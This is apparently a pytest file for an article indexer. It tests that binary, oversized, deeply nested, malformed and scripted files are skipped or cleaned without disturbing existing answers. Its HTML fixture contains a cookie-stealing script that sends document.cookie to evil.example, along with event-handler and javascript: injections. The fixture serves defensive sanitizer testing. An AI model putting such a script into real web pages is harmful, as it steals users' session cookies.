"""Hostile article files: each is skipped with its reason, or cleaned, and nothing already
indexed is affected."""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from index.engine import Engine
from index.ingest.html_text import extract_article
from index.ingest.loaders import UnreadableFile, load_file

KILLED = "How many people did the Pakistani strike kill?"
HUNDRED_MB = 100 * 1024 * 1024

SCRIPTED_PAGE = """<!doctype html><html><head><title>Ferry timetable changes in May</title>
<script>document.cookie && fetch('https://evil.example/steal?c=' + document.cookie)</script>
<style>body { background: url(javascript:stealCookies()) }</style></head>
<body onload="stealCookies()"><nav>Home | News</nav><article>
<p>The island ferry will sail every forty minutes from the first of May,
the harbour office said.</p>
<p onclick="stealCookies()">Night crossings stop at <b>midnight</b>.
<script>stealCookies()</script></p>
<noscript>Enable JavaScript to stealCookies</noscript><iframe src="https://evil.example"></iframe>
</article></body></html>"""


def deep_html(depth: int, tag: str = "div") -> str:
    return (
        "<html><head><title>Lighthouse count</title></head><body>"
        + f"<{tag}>" * depth
        + "<p>The lighthouse keeper counted forty-two ships passing the cape in one night.</p>"
        + f"</{tag}>" * depth
        + "</body></html>"
    )


def write_hostile_files(folder: Path) -> dict[str, str]:
    """The hostile files, by name, with the words their skip reason must contain ('' = indexed)."""
    folder.mkdir()
    (folder / "binary.txt").write_bytes(b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 40)
    (folder / "latin1.md").write_bytes("Caf\xe9 cr\xe8me at the harbour.".encode("latin-1"))
    with (folder / "huge.txt").open("wb") as f:  # sparse: 100 MB that take no disk
        f.truncate(HUNDRED_MB)
    (folder / "deep.html").write_text(deep_html(5000))
    (folder / "deep-list.html").write_text(deep_html(5000, "li").replace("forty-two", "thirty-one"))
    (folder / "scripted.html").write_text(SCRIPTED_PAGE)
    records = [
        {"body": 42},
        {"title": ["not", "text"], "body": "A record with a list for a title."},
        "just a string",
        None,
        {"body": "   "},
        {
            "title": 7,
            "published_at": 2024,
            "body": "The city council voted to rebuild the old tram depot as a library.",
        },
    ]
    (folder / "mixed.json").write_text(json.dumps(records))
    (folder / "all-bad.json").write_text(json.dumps({"body": None, "title": {"x": 1}}))
    (folder / "broken.json").write_text('{"body": "unterminated')
    (folder / "wrong.jsonl").write_text('{"body": 1}\n[1, 2]\n')
    return {
        "binary.txt": "binary file",
        "latin1.md": "not valid UTF-8",
        "huge.txt": "too large (104,857,600 bytes",
        "deep.html": "",
        "deep-list.html": "",
        "scripted.html": "",
        "mixed.json": "",
        "all-bad.json": "no text in 'body'",
        "broken.json": "not valid JSON",
        "wrong.jsonl": "no text in 'body'",
    }


def test_hostile_files_are_skipped_or_cleaned_and_nothing_else_changes(
    make_engine: Callable[..., Engine], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    engine = make_engine()
    engine.index()
    before = engine.ask(KILLED)
    assert "nine" in before.answer
    expected = write_hostile_files(tmp_path / "hostile")

    started = time.perf_counter()
    report = engine.index([tmp_path / "hostile"], prune=False)
    seconds = time.perf_counter() - started

    assert seconds < 30
    # refused by its size, never read (the run reads in a child process: checked here directly)
    read: list[str] = []
    real_read_bytes = Path.read_bytes

    def recording_read_bytes(self: Path) -> bytes:
        read.append(self.name)
        return real_read_bytes(self)

    monkeypatch.setattr(Path, "read_bytes", recording_read_bytes)
    with pytest.raises(UnreadableFile, match="too large"):
        load_file(tmp_path / "hostile" / "huge.txt", engine.settings.max_file_bytes)
    monkeypatch.undo()
    assert read == []

    reasons = {Path(s.path.split("#")[0]).name: s.reason for s in report.skipped}
    for name, words in expected.items():
        if words:
            assert words in reasons.get(name, ""), (name, reasons)
    # the good record of mixed.json is indexed, its five bad records each skipped with a reason
    mixed = [s.reason for s in report.skipped if Path(s.path.split("#")[0]).name == "mixed.json"]
    assert sorted(mixed) == sorted(
        [
            "a record has no text in 'body'",
            "a record's 'title' is not text",
            "a record is not a JSON object",
            "a record is not a JSON object",
            "a record has no text in 'body'",
        ]
    )
    assert len(report.added) == 4 and not report.updated and not report.removed
    assert engine.stats().articles == 5

    # cleaned: no script, style or handler text reaches the index
    ferry = engine.sources("How often will the island ferry sail?")
    assert "forty minutes" in ferry[0].text and "midnight" in ferry[0].text
    for passage in engine.sources("stealCookies evil.example document.cookie", k=10):
        assert "stealCookies" not in passage.text and "evil.example" not in passage.text
    # deep.html and deep-list.html differ only in the number: both are indexed, both whole.
    ships = " | ".join(p.text for p in engine.sources("lighthouse keeper ships", k=2))
    assert "forty-two ships" in ships and "thirty-one ships" in ships
    assert "tram depot" in engine.sources("old tram depot library")[0].text

    # what was indexed before still answers, the same way
    after = engine.ask(KILLED)
    assert after.answer == before.answer and after.citations == before.citations


def test_deeply_nested_html_is_linear_and_does_not_recurse() -> None:
    for tag in ("div", "li", "blockquote", "span"):
        started = time.perf_counter()
        meta, body = extract_article(deep_html(20_000, tag))
        assert time.perf_counter() - started < 5, tag
        assert (
            body == "The lighthouse keeper counted forty-two ships passing the cape in one night."
        )
        assert meta["title"] == "Lighthouse count"


def test_html_loader_turns_a_recursion_error_into_a_skip_reason(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import index.ingest.html_text

    def too_deep(html: str) -> tuple[dict[str, str], str]:
        raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr(index.ingest.html_text, "extract_article", too_deep)
    page = tmp_path / "page.html"
    page.write_text(deep_html(10))
    with pytest.raises(UnreadableFile, match="nested too deeply"):
        load_file(page, 10_000_000)


def test_scripted_page_keeps_only_the_article_text(tmp_path: Path) -> None:
    page = tmp_path / "scripted.html"
    page.write_text(SCRIPTED_PAGE)
    [article], bad = load_file(page, 10_000_000)
    assert not bad and article.title == "Ferry timetable changes in May"
    assert article.body == (
        "The island ferry will sail every forty minutes from the first of May, the harbour "
        "office said.\n\nNight crossings stop at midnight."
    )
